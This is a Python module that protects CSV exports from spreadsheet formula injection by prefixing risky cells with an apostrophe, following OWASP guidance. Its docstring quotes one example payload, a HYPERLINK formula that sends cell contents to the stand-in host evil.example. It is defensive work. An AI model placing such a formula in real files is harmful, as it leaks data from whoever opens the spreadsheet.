"""CSV that a spreadsheet opens as text, never as formulas (CSV injection).

Excel, LibreOffice Calc and Google Sheets evaluate a cell that starts with `=`, `+`, `-`
or `@` (or a tab or carriage return before one) as a formula, so a contact whose
customer_id is `=HYPERLINK("https://evil.example/?"&A1, "details")` would run in the
spreadsheet of whoever opens the campaign's results. OWASP's rule
(https://owasp.org/www-community/attacks/CSV_Injection): prefix any such cell with `'`,
which the spreadsheet takes as "this is text" and does not show; a null first character
gets the same treatment (OWASP ASVS 5.0, V1.2.10). Every CSV the product writes goes
through `SafeDictWriter`.

The rule holds for E.164 numbers too: `+12025550100` is written `'+12025550100` (a
spreadsheet would otherwise read it as the number 12025550100, or as a formula). A program
reading the file back strips a leading `'` from its cells (`unescape_cell`). Numbers that
are not text (ints, floats) are written as they are: a negative number is not a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import Any

# The first characters that make a spreadsheet evaluate a cell (OWASP, ASVS).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
TEXT_MARKER = "'"


def safe_cell(value: Any) -> Any:
    """`value` with `'` in front when a spreadsheet would take it for a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return TEXT_MARKER + value
    return value


def unescape_cell(value: str) -> str:
    """A cell as it was before `safe_cell` (for programs that read our CSV back)."""
    if value.startswith(TEXT_MARKER) and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    return {name: safe_cell(value) for name, value in row.items()}


class SafeDictWriter(csv.DictWriter):
    """`csv.DictWriter` whose every cell goes through `safe_cell` (quoting stays the csv
    module's, so a separator or quote inside a value can't start a new cell)."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow(safe_row(rowdict))

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)
